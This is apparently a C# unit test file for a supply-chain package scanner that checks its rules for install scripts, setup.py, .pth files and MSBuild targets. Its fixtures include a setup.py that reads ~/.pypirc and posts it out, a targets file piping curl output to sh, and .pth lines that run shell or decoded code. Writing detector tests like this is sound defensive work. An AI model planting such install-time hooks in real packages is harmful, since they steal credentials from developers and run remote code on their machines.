using Signet.Analysis.Tests.Samples;
using static Signet.Analysis.Tests.Static.RuleAssert;

namespace Signet.Analysis.Tests.Static;

/// <summary>install-script, native-build, setup-py, pth-exec, msbuild-exec, install-time-behaviour: one sample per hook.</summary>
public sealed class InstallHookRuleTests
{
    [Fact]
    public void Npm_postinstall_is_an_install_script()
    {
        var f = Has(Analyze(SamplePackage.Npm(scripts: "{\"postinstall\": \"node setup.js\", \"test\": \"jest\"}").File("setup.js", "console.log('ok')")),
            Rules.InstallScript, Severity.Medium, "package/package.json");
        Assert.Equal("postinstall: node setup.js", f.Evidence);
    }

    [Fact]
    public void Npm_test_and_build_scripts_are_not_install_hooks()
        => HasNot(Analyze(SamplePackage.Npm(scripts: "{\"test\": \"jest\", \"prepare\": \"tsc\"}")), Rules.InstallScript);

    [Fact]
    public void Binding_gyp_without_an_install_script_is_a_native_build()
        => Has(Analyze(SamplePackage.Npm().File("binding.gyp", "{\"targets\": []}")), Rules.NativeBuild, Severity.Low, "package/binding.gyp");

    [Fact]
    public void NuGet_install_ps1_is_an_install_script()
        => Has(Analyze(SamplePackage.NuGet().File("tools/install.ps1", "param($installPath)\nWrite-Host 'hello'")), Rules.InstallScript, Severity.Medium, "tools/install.ps1");

    [Fact]
    public void Gem_native_extension_is_an_install_script()
    {
        var f = Has(Analyze(SamplePackage.Gem(extensions: "ext/fast/extconf.rb").File("ext/fast/extconf.rb", "require 'mkmf'\ncreate_makefile('fast')")),
            Rules.InstallScript, Severity.Medium, "metadata.yaml");
        Assert.Contains("ext/fast/extconf.rb", f.Evidence);
    }

    [Fact]
    public void Sdist_setup_py_is_reported_low_and_is_install_time_code()
    {
        var sample = SamplePackage.SourceDistribution().File("setup.py", "from setuptools import setup\nsetup(name='sample_pkg')\n");
        Has(Analyze(sample), Rules.SetupPy, Severity.Low, sample.PathOf("setup.py"));
    }

    [Fact]
    public void Setup_py_that_reads_credentials_and_posts_them_is_high()
    {
        var sample = SamplePackage.SourceDistribution().File("setup.py", """
            import os, urllib.request
            from setuptools import setup
            token = open(os.path.expanduser('~/.pypirc')).read()
            urllib.request.urlopen('http://127.0.0.2:8080/c', data=token.encode())
            setup(name='sample_pkg')
            """);
        var findings = Analyze(sample);
        Has(findings, Rules.InstallTimeBehaviour, Severity.High, sample.PathOf("setup.py"));
        Has(findings, Rules.CredentialExfil, Severity.High, sample.PathOf("setup.py"));
    }

    [Fact]
    public void Pth_file_with_an_import_line_runs_at_every_start()
    {
        var findings = Analyze(SamplePackage.Wheel().File("sample_pkg.pth", "import os; os.system('id')\n/opt/lib\n"));
        var f = Has(findings, Rules.PthExec, Severity.Medium, "sample_pkg.pth");
        Assert.StartsWith("import os", f.Evidence);
        Has(findings, Rules.ShellSpawn, Severity.Medium, "sample_pkg.pth");
    }

    [Fact]
    public void Pth_file_of_paths_only_is_fine()
        => HasNot(Analyze(SamplePackage.Wheel().File("sample_pkg.pth", "/opt/lib\n./vendor\n")), Rules.PthExec);

    [Fact]
    public void Pth_file_that_executes_a_decoded_payload_is_high()
    {
        var findings = Analyze(SamplePackage.Wheel().File("zz.pth", "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"));
        Has(findings, Rules.DecodedExec, Severity.High, "zz.pth");
        Has(findings, Rules.InstallTimeBehaviour, Severity.High, "zz.pth");
    }

    [Fact]
    public void Build_targets_with_exec_run_at_the_consumers_build()
    {
        var findings = Analyze(SamplePackage.NuGet().File("build/Sample.Package.targets", """
            <Project>
              <Target Name="Fetch" BeforeTargets="Build">
                <Exec Command="curl -s http://127.0.0.2:8080/p.sh | sh" />
              </Target>
            </Project>
            """));
        Has(findings, Rules.MsBuildExec, Severity.Medium, "build/Sample.Package.targets");
        Has(findings, Rules.DownloadExec, Severity.High, "build/Sample.Package.targets");
        Has(findings, Rules.InstallTimeBehaviour, Severity.High, "build/Sample.Package.targets");
    }

    [Fact]
    public void Build_props_with_an_inline_task_compile_code()
    {
        var f = Has(Analyze(SamplePackage.NuGet().File("buildTransitive/Sample.Package.props", """
            <Project>
              <UsingTask TaskName="Hello" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\Microsoft.Build.Tasks.Core.dll">
                <Task><Code Type="Fragment" Language="cs">System.Console.WriteLine("hi");</Code></Task>
              </UsingTask>
            </Project>
            """)), Rules.MsBuildExec, Severity.Medium, "buildTransitive/Sample.Package.props");
        Assert.Contains("inline task Hello", f.Evidence);
    }

    [Fact]
    public void Targets_outside_the_build_folders_are_not_imported_and_not_reported()
        => HasNot(Analyze(SamplePackage.NuGet().File("content/x.targets", "<Project><Target Name='T'><Exec Command='echo' /></Target></Project>")), Rules.MsBuildExec);

    [Fact]
    public void Npm_install_script_that_reads_the_npmrc_is_install_time_behaviour()
    {
        var findings = Analyze(SamplePackage.Npm(scripts: "{\"postinstall\": \"node ./scripts/post.js\"}")
            .File("scripts/post.js", "const fs = require('fs'); const t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');"));
        Has(findings, Rules.SensitiveRead, Severity.Medium, "package/scripts/post.js");
        Has(findings, Rules.InstallTimeBehaviour, Severity.High, "package/scripts/post.js");
    }

    [Fact]
    public void The_same_read_outside_install_time_code_stays_medium()
    {
        var findings = Analyze(SamplePackage.Npm().File("lib/config.js", "const p = require('os').homedir() + '/.npmrc';"));
        Has(findings, Rules.SensitiveRead, Severity.Medium, "package/lib/config.js");
        HasNot(findings, Rules.InstallTimeBehaviour);
    }
}
